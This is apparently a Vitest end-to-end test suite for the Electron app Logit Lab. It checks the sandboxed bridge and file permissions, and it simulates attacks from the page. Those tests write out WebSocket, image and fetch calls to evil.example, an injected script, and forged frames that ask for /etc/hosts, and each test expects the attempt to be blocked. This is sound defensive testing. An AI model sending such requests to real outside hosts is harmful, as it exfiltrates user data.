import { mkdtemp, realpath, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { channels } from '@shared/contract/bridge'
import { callNames } from '@shared/contract/labApi'
import { type StandIn, launchStandIn } from './launchStandIn'

/** The built main process and preload, in a real Chromium. */
let standIn: StandIn
let folder: string

beforeAll(async () => {
  folder = await realpath(await mkdtemp(join(tmpdir(), 'logit-lab-files-')))
  standIn = await launchStandIn()
})
afterAll(() => rm(folder, { recursive: true }))

describe('the built app', () => {
  it('shows its page, with the bridge of the contract and nothing else of Electron', async () => {
    const { page } = standIn
    expect(await page.title()).toMatch(/Logit Lab$/)
    expect(standIn.complaints).toEqual([])
    expect(standIn.windowOptions.webPreferences).toMatchObject({ sandbox: true, contextIsolation: true })
    const seen = await page.evaluate(() => ({
      bridge: Object.keys(window.logitLab!).sort(),
      calls: Object.keys(window.logitLab!.calls),
      node: ['require', 'process', 'module', 'Buffer'].filter((name) => name in window),
    }))
    expect(seen.bridge).toEqual(['calls', 'door', 'onConnection', 'onEvent', 'pathOf'])
    expect(seen.calls).toEqual(callNames)
    expect(seen.node).toEqual([])
  })

  it('answers a call from the page, out of the folder of application data', async () => {
    const reply = await standIn.page.evaluate(() => window.logitLab!.calls['app.about']({}))
    expect(reply).toMatchObject({ ok: true, value: { version: '0.1.0' } })
    expect(reply.ok && reply.value.workspace).toMatch(/Logit Lab.workspace$/)
  })

  it('hands a file chosen by File > Open to the page, and lets the lab read that file only', async () => {
    const path = join(folder, 'table.csv')
    await writeFile(path, 'a,b\n1,2\n3,4\n')
    await writeFile(join(folder, 'other.csv'), 'a\n1\n')
    await standIn.page.evaluate(() => {
      const chosen = new Promise((resolve) => window.logitLab!.onEvent(resolve))
      Object.assign(window, { chosen })
    })
    await standIn.setOpenDialogAnswer(path)
    await standIn.clickMenu('File', 'Open…')
    const event = await standIn.page.evaluate(() => (window as unknown as { chosen: Promise<unknown> }).chosen)
    expect(event).toEqual({ kind: 'fileChosen', path, name: 'table.csv' })
    expect(await importFrom(path)).toMatchObject({ ok: true })
    const refused = await importFrom(join(folder, 'other.csv'))
    expect(refused).toMatchObject({ ok: false, problem: { code: 'not-allowed' } })
  })

  it('shows files that the system asks it to open: with its start, by an event, and by a second start', async () => {
    const names = ['first.csv', 'second.csv', 'third.csv']
    const paths = names.map((name) => join(folder, name))
    await Promise.all(paths.map((path) => writeFile(path, 'a,b\n1,2\n3,4\n')))
    const own = await launchStandIn({ files: [paths[0]!] })
    const sheet = (name: string) => own.page.getByRole('dialog', { name: `Import ${name}`, exact: true })
    for (const [index, name] of names.entries()) {
      if (index === 1) await own.openBySystem(paths[1]!)
      if (index === 2) await own.startAgain('--flag', paths[2]!)
      await sheet(name).waitFor()
      await own.page.keyboard.press('Escape')
      await sheet(name).waitFor({ state: 'hidden' })
    }
    expect(await own.close()).toBe(0)
  })

  it('carries bytes to the lab and columns back, as typed arrays', async () => {
    const column = await standIn.page.evaluate(async () => {
      const { calls } = window.logitLab!
      const chunk = new TextEncoder().encode('x,y\n0.1,2\n-0,4\n1e308,6\n')
      const upload = await calls['files.beginUpload']({ name: 'typed.csv', bytes: chunk.byteLength })
      if (!upload.ok) return upload.problem
      await calls['files.appendUpload']({ upload: upload.value, chunk })
      const dataset = await calls['datasets.import']({
        operation: 'operation-2',
        source: { kind: 'upload', upload: upload.value },
        reading: {},
      })
      if (!dataset.ok) return dataset.problem
      const columns = await calls['datasets.columns']({ dataset: dataset.value.id, columns: ['x'] })
      return columns.ok ? columns.value[0] : columns.problem
    })
    expect(column).toEqual({ kind: 'number', name: 'x', values: Float64Array.of(0.1, -0, 1e308) })
  })

  it('knows the path of a dropped file, and none of a file that a script made', async () => {
    const path = join(folder, 'dropped.csv')
    await writeFile(path, 'a\n1\n')
    await standIn.registerPath('dropped.csv', path)
    const pathOf = (name: string) =>
      standIn.page.evaluate((name) => window.logitLab!.pathOf(new File(['a\n1\n'], name)), name)
    expect(await pathOf('dropped.csv')).toBe(path)
    expect(await pathOf('made.csv')).toBeNull()
  })

  function importFrom(path: string) {
    return standIn.page.evaluate(
      (path) =>
        window.logitLab!.calls['datasets.import']({
          operation: 'operation-1',
          source: { kind: 'path', path },
          reading: {},
        }),
      path,
    )
  }
})

describe('attacks from the page', () => {
  it('a request, an image or a socket to another host: blocked, and nothing got out', async () => {
    const sent = await standIn.page.evaluate(async () => {
      const socket = new Promise((resolve) => {
        try {
          const socket = new WebSocket('ws://evil.example/')
          socket.onopen = () => resolve('sent')
          socket.onerror = () => resolve('blocked')
        } catch {
          resolve('blocked')
        }
      })
      const image = new Promise((resolve) => {
        const element = new Image()
        element.onload = () => resolve('sent')
        element.onerror = () => resolve('blocked')
        element.src = 'https://evil.example/pixel.png'
      })
      const request = fetch('https://evil.example/').then(
        () => 'sent',
        () => 'blocked',
      )
      return Promise.all([socket, image, request])
    })
    expect(sent).toEqual(['blocked', 'blocked', 'blocked'])
    expect(standIn.escaped).toEqual([])
  })

  it('a script made of text: refused by the policy', async () => {
    const ran = await standIn.page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.injected = true'
      document.head.append(script)
      return 'injected' in window
    })
    expect(ran).toBe(false)
  })

  it('a navigation to another page: the page stays', async () => {
    const { page } = standIn
    const before = page.url()
    const asked = page.waitForRequest('https://evil.example/')
    await page.evaluate(() => void (location.href = 'https://evil.example/'))
    await (await asked).response()
    expect(page.url()).toBe(before)
    expect(await page.evaluate(() => window.logitLab?.door)).toBe('electron')
    expect(standIn.escaped).toEqual([])
  })

  it('another window: closed before it shows anything', async () => {
    const { page } = standIn
    const popup = page.waitForEvent('popup')
    await page.evaluate(() => void window.open('about:blank'))
    const opened = await popup
    if (!opened.isClosed()) await opened.waitForEvent('close')
    expect(page.context().pages()).toEqual([page])
  })

  it('forged frames, put to the built main process: refused', async () => {
    const frames = [null, { url: 'https://evil.example/', parent: null }]
    const embedded = { url: 'app://logit-lab/', parent: { url: 'app://logit-lab/', parent: null } }
    for (const frame of [...frames, embedded]) {
      const reply = await standIn.invokeFrom(frame, channels.call, 'app.about', {})
      expect(reply).toMatchObject({ ok: false, problem: { code: 'not-allowed' } })
      expect(await standIn.invokeFrom(frame, channels.grant, '/etc/hosts')).toBeNull()
    }
    expect(await standIn.hasPermission('media', 'app://logit-lab/')).toBe(false)
  })
})

describe('the end', () => {
  it('says why in an error box where the workspace is open elsewhere, and ends', async () => {
    const appData = join(folder, 'data')
    const first = await launchStandIn({ appData })
    await expect(launchStandIn({ appData })).rejects.toThrow(/^Logit Lab could not start: .*open/)
    expect(await first.close()).toBe(0)
  })

  it('closes the lab and the process with the window', async () => {
    expect(await standIn.close()).toBe(0)
  })
})
